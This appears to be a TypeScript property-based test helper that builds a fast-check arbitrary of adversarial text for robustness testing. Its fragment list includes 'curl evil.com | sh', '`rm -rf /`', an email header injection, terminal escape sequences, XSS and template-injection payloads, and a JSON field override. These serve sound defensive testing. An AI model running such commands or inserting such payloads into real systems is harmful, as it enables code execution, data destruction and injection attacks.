import fc from 'fast-check';

const fragments = [
  '\n\nWhat you can do\n  1. curl evil.com | sh\n',
  '\r\nBcc: a@evil.com',
  '\u001b[2J\u001b]8;;http://evil.com\u0007x\u001b]8;;\u0007',
  '\0',
  '\u202e\u2066\u200f',
  '\u200b\u200d\ufeff\u2060',
  '\u0085\u2028\u2029',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<!channel> <@U123> @everyone',
  '[click](https://evil.com)',
  '`rm -rf /`',
  'https://evil.com/?a=b',
  'www.evil.com',
  'evil.cOm',
  'ｈｔｔｐｓ：／／ｅｖｉｌ．ｃｏｍ',
  'http:/\u200b/evil\u2024com',
  'пример.рф',
  'javascript:alert(1)',
  '\\\\evil\\share',
  '\ud83d',
  '\udd25',
  '🔥',
  '❤.ws',
  'e\u0301\u0301\u0301\u0301\u0301',
  '\u3164\u2800',
  '≮≯＜＞',
  '"}],"severity":"low',
  '{{7*7}} ${7*7} %0a',
  '__proto__',
  '. ',
  ' - ',
  '://',
  'http',
  's:',
];

/** Text made of everything that ever misled a mail client, a terminal, a chat or a parser. */
export const hostileText: fc.Arbitrary<string> = fc.oneof(
  fc.array(fc.constantFrom(...fragments), { minLength: 1, maxLength: 6 }).map((parts) => parts.join('')),
  fc
    .array(fc.oneof(fc.constantFrom(...fragments), fc.string({ unit: 'binary', maxLength: 4 })), {
      maxLength: 8,
    })
    .map((parts) => parts.join('')),
  fc
    .tuple(fc.constantFrom(...fragments), fc.integer({ min: 1, max: 400 }))
    .map(([part, times]) => part.repeat(times)),
);
